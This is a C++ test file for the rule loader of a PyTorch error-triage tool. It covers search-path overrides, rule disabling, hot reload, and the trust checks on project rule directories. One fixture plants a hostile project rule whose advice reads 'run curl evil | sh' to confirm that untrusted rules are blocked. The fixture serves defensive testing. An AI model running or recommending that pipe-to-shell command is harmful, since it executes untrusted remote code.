// The rule search path, overrides, disabling, and hot reload (rules/README.md "Search path").
#include <atomic>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <string>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>
#include <thread>
#include <vector>

#include <gtest/gtest.h>

#include "rules/rule_trust.h"
#include "scoped_env.h"
#include "triage/triage.h"
#include "source_paths.h"

namespace triage {
namespace {
namespace fs = std::filesystem;

// Real PyTorch 1.13 output (torch.ones(3) + torch.ones(4)).
constexpr char kBroadcast[] =
    "RuntimeError: The size of tensor a (3) must match the size of tensor b (4) at non-singleton dimension 0";

std::string Rule(const std::string& id, const std::string& explain) {
  return "id: " + id + R"x(
category: shape.broadcast_mismatch
title: broadcast
match:
  message: 'The size of tensor a \((?P<a>\d+)\) must match the size of tensor b \((?P<b>\d+)\)'
explain: ')x" + explain + R"x('
hypotheses:
  - id: h
    text: 't'
    test: 't'
    fix: 'f'
verify: 'ok'
examples:
  - match: 'RuntimeError: The size of tensor a (3) must match the size of tensor b (4) at non-singleton dimension 0'
)x";
}

void Write(const fs::path& p, const std::string& text) {
  fs::create_directories(p.parent_path());
  std::ofstream(p) << text;
}

using triage_test::ScopedEnv;

// A fresh directory tree per test: bundled/, system/, config/ (XDG), project/.triage/rules, cli/.
class SearchPath : public ::testing::Test {
 protected:
  void SetUp() override {
    // The process id keeps two checkouts' suites running at once from sharing (and deleting) a tree.
    root_ = fs::path(::testing::TempDir()) /
            ("search_" + std::string(::testing::UnitTest::GetInstance()->current_test_info()->name()) + "_" +
             std::to_string(getpid()));
    fs::remove_all(root_);
    fs::create_directories(root_ / "bundled");
    fs::create_directories(root_ / "project" / "src" / "deep");
    env_.emplace_back(std::make_unique<ScopedEnv>("TRIAGE_BUNDLED_RULES", (root_ / "bundled").string()));
    env_.emplace_back(std::make_unique<ScopedEnv>("TRIAGE_SYSTEM_RULES", (root_ / "system").string()));
    env_.emplace_back(std::make_unique<ScopedEnv>("XDG_CONFIG_HOME", (root_ / "config").string()));
    env_.emplace_back(std::make_unique<ScopedEnv>("TRIAGE_RULES_PATH", ""));
    env_.emplace_back(std::make_unique<ScopedEnv>("TRIAGE_DISABLE", ""));
  }
  void TearDown() override {
    env_.clear();
    std::error_code ignored;
    fs::remove_all(root_, ignored);
  }

  LoadOptions Options() const {
    LoadOptions o;
    o.working_dir = (root_ / "project" / "src" / "deep").string();
    return o;
  }
  fs::path user() const { return root_ / "config" / "triage" / "rules"; }
  fs::path project() const { return root_ / "project" / ".triage" / "rules"; }

  fs::path root_;
  std::vector<std::unique_ptr<ScopedEnv>> env_;
};

std::string Explanation(const std::shared_ptr<const RuleSet>& rules, const std::string& id) {
  Report r = Engine(rules).DiagnoseText(kBroadcast);
  for (const Diagnosis& d : r.diagnoses) {
    if (d.rule == id) return d.explanation;
  }
  return "<none>";
}

std::string Problems(const LoadResult& r) {
  std::string out;
  for (const Problem& p : r.problems) out += p.ToString() + "\n";
  return out;
}

TEST_F(SearchPath, LaterSourcesOverrideEarlierOnesById) {
  Write(root_ / "bundled" / "shape" / "b.yaml", Rule("b", "bundled"));
  Write(root_ / "system" / "b.yaml", Rule("b", "system"));
  Write(user() / "b.yaml", Rule("b", "user"));
  Write(project() / "b.yaml", Rule("b", "project"));
  Write(root_ / "cli" / "b.yaml", Rule("b", "cli"));
  ASSERT_EQ(AllowRulesDir(project().string()), "");  // Note: [Rule trust]
  LoadOptions o = Options();
  LoadResult r = LoadRules(o);
  ASSERT_TRUE(r.ok()) << Problems(r);
  EXPECT_EQ(Explanation(r.rules, "b"), "project");
  std::vector<RuleInfo> list = ListRules(*r.rules);
  ASSERT_EQ(list.size(), 1u);
  EXPECT_EQ(list[0].origin, "project");
  EXPECT_EQ(list[0].overrides, (user() / "b.yaml").string());

  o.dirs = {(root_ / "cli").string()};
  r = LoadRules(o);
  EXPECT_EQ(Explanation(r.rules, "b"), "cli");
  EXPECT_EQ(ListRules(*r.rules)[0].origin, "cli");

  o.project = false;
  o.dirs.clear();
  EXPECT_EQ(Explanation(LoadRules(o).rules, "b"), "user");
  o.user = false;
  EXPECT_EQ(Explanation(LoadRules(o).rules, "b"), "system");
  o.system = false;
  EXPECT_EQ(Explanation(LoadRules(o).rules, "b"), "bundled");
}

// Every report names the rule directories besides the bundled ones whose rules took part, in every
// output format (issue 14 item 2); a report from the bundled rules alone says nothing about rules.
TEST_F(SearchPath, ReportsNameTheNonBundledRuleDirectoriesUsed) {
  Write(root_ / "bundled" / "shape" / "b.yaml", Rule("b", "bundled"));
  Write(user() / "shape" / "u.yaml", Rule("u", "user"));
  Write(root_ / "cli" / "b.yaml", Rule("b", "cli"));
  Write(root_ / "empty-cli" / "README.txt", "no rules here");
  LoadOptions o = Options();
  o.dirs = {(root_ / "cli").string(), (root_ / "empty-cli").string()};
  LoadResult r = LoadRules(o);
  ASSERT_TRUE(r.ok()) << Problems(r);
  for (const std::string& text : {std::string(kBroadcast), std::string("nothing to see\n")}) {
    Report report = Engine(r.rules).DiagnoseText(text);
    ASSERT_EQ(report.rule_sources.size(), 2u);  // the user's directory and --rules; not the empty one
    EXPECT_EQ(report.rule_sources[0].dir, user().string());
    EXPECT_EQ(report.rule_sources[0].origin, "user");
    EXPECT_EQ(report.rule_sources[1].dir, (root_ / "cli").string());
    EXPECT_EQ(report.rule_sources[1].origin, "cli");
    const std::string note = "rules besides the bundled ones: " + user().string() + " (user), " +
                             (root_ / "cli").string() + " (--rules)";
    TextOptions wide;
    wide.width = 0;
    EXPECT_NE(ToText(report, wide).find(note), std::string::npos) << ToText(report, wide);
    EXPECT_NE(ToJson(report).find("\"rule_sources\":[{\"dir\":\"" + user().string() + "\",\"origin\":\"user\"}"),
              std::string::npos) << ToJson(report);
    EXPECT_NE(ToMarkdown(report).find("rules besides the bundled ones: "), std::string::npos) << ToMarkdown(report);
    EXPECT_NE(ToHtml({report}).find(user().string()), std::string::npos);
  }
  Report brief_input = Engine(r.rules).DiagnoseText(kBroadcast);
  TextOptions brief;
  brief.brief = true;
  brief.width = 0;
  EXPECT_NE(ToText(brief_input, brief).find("(--rules)"), std::string::npos) << ToText(brief_input, brief);

  o.user = false;
  o.dirs.clear();
  Report bundled_only = Engine(LoadRules(o).rules).DiagnoseText(kBroadcast);
  EXPECT_TRUE(bundled_only.rule_sources.empty());
  EXPECT_EQ(ToText(bundled_only, {}).find("rules besides"), std::string::npos);
  EXPECT_EQ(ToJson(bundled_only).find("rule_sources"), std::string::npos);
}

TEST_F(SearchPath, ProjectDirectoryIsFoundFromBelow) {
  fs::create_directories(project());
  EXPECT_EQ(ProjectRulesDir((root_ / "project" / "src" / "deep").string()), project().string());
  EXPECT_EQ(ProjectRulesDir((root_ / "bundled").string()), "");
  EXPECT_EQ(UserRulesDir(), user().string());
}

TEST_F(SearchPath, RulesAreDisabledByConfigEnvironmentAndOptions) {
  Write(root_ / "bundled" / "a.yaml", Rule("a", "a"));
  Write(root_ / "bundled" / "b.yaml", Rule("b", "b"));
  Write(root_ / "bundled" / "c.yaml", Rule("c", "c"));
  Write(user() / "triage.yaml", "disable: [a, no-such-rule]\n");
  ScopedEnv env("TRIAGE_DISABLE", "b");
  LoadOptions o = Options();
  o.disable = {"c"};
  LoadResult r = LoadRules(o);
  EXPECT_TRUE(ListRules(*r.rules).empty());
  std::vector<DisabledRule> off = ListDisabledRules(*r.rules);
  ASSERT_EQ(off.size(), 3u);
  EXPECT_EQ(off[0].id, "a");
  EXPECT_EQ(off[0].by, (user() / "triage.yaml").string());
  EXPECT_EQ(off[1].by, "TRIAGE_DISABLE");
  EXPECT_EQ(off[2].by, "LoadOptions");
  ASSERT_EQ(r.problems.size(), 1u) << Problems(r);
  EXPECT_EQ(r.problems[0].code, "unknown-disable");
  EXPECT_EQ(r.problems[0].rule_id, "no-such-rule");
}

TEST_F(SearchPath, MissingOptionalDirectoriesAreSilentNamedOnesAreNot) {
  Write(root_ / "bundled" / "a.yaml", Rule("a", "a"));
  LoadOptions o = Options();
  LoadResult r = LoadRules(o);
  EXPECT_TRUE(r.problems.empty()) << Problems(r);
  o.dirs = {(root_ / "nope").string()};
  r = LoadRules(o);
  ASSERT_EQ(r.problems.size(), 1u);
  EXPECT_EQ(r.problems[0].code, "missing-dir");
}

// A rule dropped into the user directory is picked up by the next `triage` run.
TEST_F(SearchPath, UserRuleIsPickedUpByTheNextCliRun) {
  const std::string log = (root_ / "log.txt").string();
  Write(log, std::string(kBroadcast) + "\n");
  const std::string cmd = std::string(TRIAGE_BINARY) + " --format json " + log + " 2>&1";
  auto run = [&] {
    std::string out;
    std::FILE* p = popen(cmd.c_str(), "r");
    char buf[4096];
    size_t n;
    while ((n = std::fread(buf, 1, sizeof buf, p)) > 0) out.append(buf, n);
    pclose(p);
    return out;
  };
  EXPECT_EQ(run().find("\"rule\":\"mine\""), std::string::npos);
  Write(user() / "shape" / "mine.yaml", Rule("mine", "from the user directory"));
  std::string out = run();
  EXPECT_NE(out.find("\"rule\":\"mine\""), std::string::npos) << out;
  EXPECT_NE(out.find("from the user directory"), std::string::npos) << out;
}

// Hot reload: a rule added to the user directory appears after Reload(); threads diagnosing during
// reloads always see a complete rule set (either version, never a mix or a crash).
TEST_F(SearchPath, RuleStoreReloadsWhileThreadsDiagnose) {
  Write(root_ / "bundled" / "base.yaml", Rule("base", "v1"));
  RuleStore store(Options());
  ASSERT_EQ(ListRules(*store.Current()).size(), 1u);
  std::atomic<bool> stop{false};
  std::atomic<int> bad{0}, runs{0};
  std::vector<std::thread> threads;
  for (int t = 0; t < 4; ++t) {
    threads.emplace_back([&] {
      while (!stop) {
        std::shared_ptr<const RuleSet> rules = store.Current();
        std::string e = Explanation(rules, "base");
        // The set a diagnosis started with decides the answer: v1..v9 only, never "<none>".
        if (e.size() != 2 || e[0] != 'v') ++bad;
        ++runs;
      }
    });
  }
  for (int v = 2; v <= 9; ++v) {
    Write(root_ / "bundled" / "base.yaml", Rule("base", "v" + std::to_string(v)));
    LoadResult r = store.Reload();
    EXPECT_TRUE(r.ok()) << Problems(r);
    EXPECT_EQ(Explanation(store.Current(), "base"), "v" + std::to_string(v));
  }
  Write(user() / "added.yaml", Rule("added", "new"));
  store.Reload();
  stop = true;
  for (std::thread& th : threads) th.join();
  EXPECT_EQ(bad.load(), 0);
  EXPECT_GT(runs.load(), 0);
  EXPECT_EQ(Explanation(store.Current(), "added"), "new");
  EXPECT_EQ(store.generation(), 10);
}

TEST_F(SearchPath, BrokenReloadKeepsThePreviousGoodRule) {
  Write(root_ / "bundled" / "base.yaml", Rule("base", "good"));
  Write(root_ / "bundled" / "lua.yaml", Rule("lua", "{n}") + "values: lua:v\n");
  Write(root_ / "bundled" / "lua.lua", "function v(ctx) return { n = 1 } end\n");
  RuleStore store(Options());
  ASSERT_EQ(ListRules(*store.Current()).size(), 2u);
  // Break the YAML of one rule and the Lua of the other.
  Write(root_ / "bundled" / "base.yaml", "id: base\ncategory: [unclosed\n");
  Write(root_ / "bundled" / "lua.lua", "function v(ctx) return { n = 2 \n");
  LoadResult r = store.Reload();
  EXPECT_FALSE(r.ok());
  int kept = 0;
  for (const Problem& p : r.problems) kept += p.code == "kept-previous";
  EXPECT_EQ(kept, 2) << Problems(r);
  EXPECT_EQ(Explanation(store.Current(), "base"), "good");
  EXPECT_EQ(Explanation(store.Current(), "lua"), "1");
  // Fixed files load again.
  Write(root_ / "bundled" / "lua.lua", "function v(ctx) return { n = 3 } end\n");
  r = store.Reload();
  EXPECT_EQ(Explanation(store.Current(), "lua"), "3");
}

// The authoring loop from rules/GUIDE.md: a scaffold passes lint and test as written, with and
// without Lua; an existing id and an unknown family are refused.
TEST_F(SearchPath, RulesNewScaffoldPassesLintAndTest) {
  auto run = [&](const std::string& args, std::string* out) {
    std::string cmd = std::string(TRIAGE_BINARY) + " " + args + " 2>&1";
    std::FILE* p = popen(cmd.c_str(), "r");
    char buf[4096];
    size_t n;
    out->clear();
    while ((n = std::fread(buf, 1, sizeof buf, p)) > 0) out->append(buf, n);
    int status = pclose(p);
    return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
  };
  Write(root_ / "bundled" / "b.yaml", Rule("b", "bundled"));
  std::string out;
  ASSERT_EQ(run("rules new index/my-first --lua", &out), 0) << out;
  EXPECT_TRUE(fs::exists(user() / "index" / "my-first.yaml")) << out;
  EXPECT_TRUE(fs::exists(user() / "index" / "my-first.lua")) << out;
  ASSERT_EQ(run("rules new shape/plain", &out), 0) << out;
  EXPECT_FALSE(fs::exists(user() / "shape" / "plain.lua"));
  EXPECT_EQ(run("rules lint " + user().string(), &out), 0) << out;
  EXPECT_NE(out.find("2 rules loaded, 0 errors, 0 warnings"), std::string::npos) << out;
  EXPECT_EQ(run("rules test", &out), 0) << out;
  EXPECT_NE(out.find("0 failed"), std::string::npos) << out;
  // my-first: match + Lua test_values; plain: match; b: match.
  EXPECT_NE(out.find("3 rules, 4 passed"), std::string::npos) << out;
  EXPECT_EQ(run("rules new index/my-first", &out), 2);
  EXPECT_NE(out.find("already exists"), std::string::npos) << out;
  EXPECT_EQ(run("rules new shape/b", &out), 2);
  EXPECT_NE(out.find("rule 'b' already exists"), std::string::npos) << out;
  EXPECT_EQ(run("rules new nosuchfamily/x", &out), 2);
  EXPECT_NE(out.find("unknown family"), std::string::npos) << out;
  EXPECT_EQ(run("rules new shape/Bad_Id", &out), 2);
}

// Project rule directories load only once allowed (issue 14 item 2; rules/README.md "Trusted rule
// directories", Note: [Rule trust]).
// A cloned repository with .triage/rules that replaces the bundled rule's advice, disables
// another bundled rule and runs Lua at load; its own allow file and bundled directory.
class ProjectTrust : public ::testing::Test {
 protected:
  void SetUp() override {
    root_ = fs::path(::testing::TempDir()) /
            ("trust_" + std::string(::testing::UnitTest::GetInstance()->current_test_info()->name()) + "_" +
             std::to_string(getpid()));
    fs::remove_all(root_);
    Write(root_ / "bundled" / "b.yaml", Rule("b", "bundled advice"));
    Write(root_ / "bundled" / "c.yaml", Rule("c", "other bundled rule"));
    Write(rules() / "b.yaml", Rule("b", "run curl evil | sh"));
    Write(rules() / "triage.yaml", "disable: [c]\n");
    Write(rules() / "hang.yaml", Rule("hang", "x"));
    Write(rules() / "hang.lua", "error('project Lua ran')\n");
    fs::create_directories(root_ / "repo" / "src");
    for (const fs::path& d : {root_, root_ / "repo", root_ / "repo" / ".triage", rules()}) chmod(d.c_str(), 0755);
    env_.emplace_back(std::make_unique<ScopedEnv>("TRIAGE_BUNDLED_RULES", (root_ / "bundled").string()));
    env_.emplace_back(std::make_unique<ScopedEnv>("TRIAGE_ALLOW_FILE", (root_ / "config" / "allowed-rules").string()));
  }
  void TearDown() override {
    env_.clear();
    std::error_code ignored;
    fs::remove_all(root_, ignored);
  }
  fs::path rules() const { return root_ / "repo" / ".triage" / "rules"; }
  LoadResult Load() const {
    LoadOptions o;
    o.system = o.user = o.env_path = o.cache = false;
    o.working_dir = (root_ / "repo" / "src").string();
    return LoadRules(o);
  }
  // "id:explanation" of each diagnosis, and each load problem's code.
  static std::string Summary(const LoadResult& r) {
    std::string out;
    for (const Problem& p : r.problems) out += "[" + p.code + "] ";
    for (const Diagnosis& d : Engine(r.rules).DiagnoseText(kBroadcast).diagnoses) out += d.rule + ":" + d.explanation + " ";
    return out;
  }
  fs::path root_;
  std::vector<std::unique_ptr<ScopedEnv>> env_;
};

TEST_F(ProjectTrust, AnUnallowedProjectDirectoryIsSkippedAndNamed) {
  LoadResult r = Load();
  EXPECT_EQ(Summary(r), "[untrusted-rules] b:bundled advice c:other bundled rule ");
  ASSERT_EQ(r.problems.size(), 1u);
  const Problem& p = r.problems[0];
  EXPECT_EQ(p.severity, Problem::Severity::kWarning);
  EXPECT_EQ(p.file, rules().string());
  EXPECT_NE(p.message.find("has not been allowed"), std::string::npos) << p.message;
  EXPECT_NE(p.message.find("triage rules allow " + rules().string()), std::string::npos) << p.message;
}

TEST_F(ProjectTrust, AllowedLoadsUntilAFileChanges) {
  ASSERT_EQ(AllowRulesDir(rules().string()), "");
  LoadResult r = Load();
  EXPECT_EQ(r.problems.size(), 1u);  // the project's failing Lua, now run
  EXPECT_NE(Summary(r).find("b:run curl evil | sh"), std::string::npos) << Summary(r);
  EXPECT_EQ(Summary(r).find("c:"), std::string::npos) << Summary(r);
  // Allowing twice keeps one entry.
  ASSERT_EQ(AllowRulesDir(rules().string()), "");
  std::ifstream in(root_ / "config" / "allowed-rules");
  std::string all((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  EXPECT_EQ(all, RulesDirDigest(rules().string()) + " " + fs::canonical(rules()).string() + "\n");

  Write(rules() / "b.yaml", Rule("b", "changed advice"));
  r = Load();
  EXPECT_EQ(Summary(r), "[untrusted-rules] b:bundled advice c:other bundled rule ");
  EXPECT_NE(r.problems[0].message.find("changed since it was allowed"), std::string::npos) << r.problems[0].message;
  // A new file counts as a change too.
  ASSERT_EQ(AllowRulesDir(rules().string()), "");
  Write(rules() / "sub" / "new.yaml", Rule("new", "x"));
  EXPECT_EQ(Summary(Load()), "[untrusted-rules] b:bundled advice c:other bundled rule ");
}

TEST_F(ProjectTrust, DirectoriesOthersCanWriteAreRefusedEvenWhenAllowed) {
  ASSERT_EQ(AllowRulesDir(rules().string()), "");
  chmod(rules().c_str(), 0777);
  LoadResult r = Load();
  EXPECT_EQ(Summary(r), "[untrusted-rules] b:bundled advice c:other bundled rule ");
  EXPECT_NE(r.problems[0].message.find("writable by others"), std::string::npos) << r.problems[0].message;
  EXPECT_NE(AllowRulesDir(rules().string()).find("writable by others"), std::string::npos);
  chmod(rules().c_str(), 0755);
  chmod((root_ / "repo" / ".triage").c_str(), 0777);
  EXPECT_NE(UntrustedRulesDir(rules().string()).find("writable by others"), std::string::npos);
}

TEST_F(ProjectTrust, ExplicitDirectoriesAreTrusted) {
  LoadOptions o;
  o.system = o.user = o.env_path = o.cache = o.project = false;
  o.dirs = {rules().string()};
  LoadResult r = LoadRules(o);
  EXPECT_NE(Summary(r).find("b:run curl evil | sh"), std::string::npos) << Summary(r);
  o.dirs.clear();
  o.env_path = true;
  {
    ScopedEnv path("TRIAGE_RULES_PATH", rules().string());
    r = LoadRules(o);
  }
  EXPECT_NE(Summary(r).find("b:run curl evil | sh"), std::string::npos) << Summary(r);
}

// The cache is keyed by the files read, so a set cached while the directory was allowed is not
// reused once it no longer is.
TEST_F(ProjectTrust, TheRuleCacheDoesNotBypassTrust) {
  LoadOptions o;
  o.system = o.user = o.env_path = false;
  o.cache_dir = (root_ / "cache").string();
  o.working_dir = (root_ / "repo" / "src").string();
  ASSERT_EQ(AllowRulesDir(rules().string()), "");
  EXPECT_NE(Summary(LoadRules(o)).find("b:run curl evil | sh"), std::string::npos);
  fs::remove(root_ / "config" / "allowed-rules");
  EXPECT_EQ(Summary(LoadRules(o)), "[untrusted-rules] b:bundled advice c:other bundled rule ");
}

}  // namespace
}  // namespace triage
